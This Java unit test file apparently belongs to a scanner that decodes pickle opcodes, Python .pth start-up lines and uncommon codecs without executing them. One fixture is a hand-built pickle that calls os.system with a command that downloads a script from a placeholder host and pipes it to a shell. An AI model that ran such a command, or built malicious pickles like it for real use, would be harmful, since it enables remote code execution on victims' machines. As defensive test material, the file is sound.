package dev.kingsnake.internal.decode;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The readers behind constant-code layers: pickle opcodes, .pth start-up lines, the rarer codecs. */
class ConstantCodeReadersTest {
    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void protocolZeroPickleCallingSystemIsReadNotRun() {
        // what pickle.dumps writes for an object reducing to os.system at protocol 0 (posix is os on Linux)
        byte[] p = ascii("cposix\nsystem\np0\n(Vcurl -s https://example.invalid/p | sh\np1\ntp2\nRp3\n.");
        List<PickleCalls.Call> calls = PickleCalls.read(p).orElseThrow();
        assertEquals(1, calls.size());
        assertEquals("os.system", calls.get(0).callee().qualified());
        assertEquals("import os\nos.system('curl -s https://example.invalid/p | sh')\n",
                PickleCalls.asPython(calls).orElseThrow());
    }

    @Test
    void truncatedOrForeignStreamsTellNothing() {
        assertEquals(Optional.empty(), PickleCalls.read(ascii("\u0080\u0004\u008c\u0005posix")));
        assertEquals(Optional.empty(), PickleCalls.read(ascii("not a pickle at all")));
        assertEquals(Optional.empty(), PickleCalls.read(ascii("\u0080\u0004N.")).flatMap(PickleCalls::asPython));
    }

    @Test
    void onlyImportLinesOfAPthFileAreCodeAndKeepTheirLineNumbers() {
        byte[] pth = ascii("../src\nimport os; os.getcwd()\n# a comment\nimportlib\nimport\tsys\n");
        String code = new String(StartupHooks.code(pth).orElseThrow(), StandardCharsets.ISO_8859_1);
        assertEquals("\nimport os; os.getcwd()\n\n\nimport\tsys\n", code);
        assertTrue(StartupHooks.code(ascii("/opt/site\n../lib\n")).isEmpty());
    }

    @Test
    void rareCodecsDecodeAsCPython() throws DecodeException {
        // codecs.encode(..., 'punycode' | 'uu' | 'quopri') in CPython 3.11
        assertEquals("b\u00fccher", RareCodecs.punycode("bcher-kva"));
        assertEquals("print(1)\n", new String(RareCodecs.uu(ascii("begin 666 <data>\n)<')I;G0H,2D*\n \nend\n"),
                OutputBound.of(1 << 16)), StandardCharsets.ISO_8859_1));
        assertEquals("a=b\u00e9", new String(RareCodecs.quopri(ascii("a=3Db=E9"), OutputBound.of(1 << 16)),
                StandardCharsets.ISO_8859_1));
        assertEquals("os\n\u00e9", RareCodecs.unicodeEscape(ascii("\\x6fs\\n\\u00e9")));
    }
}
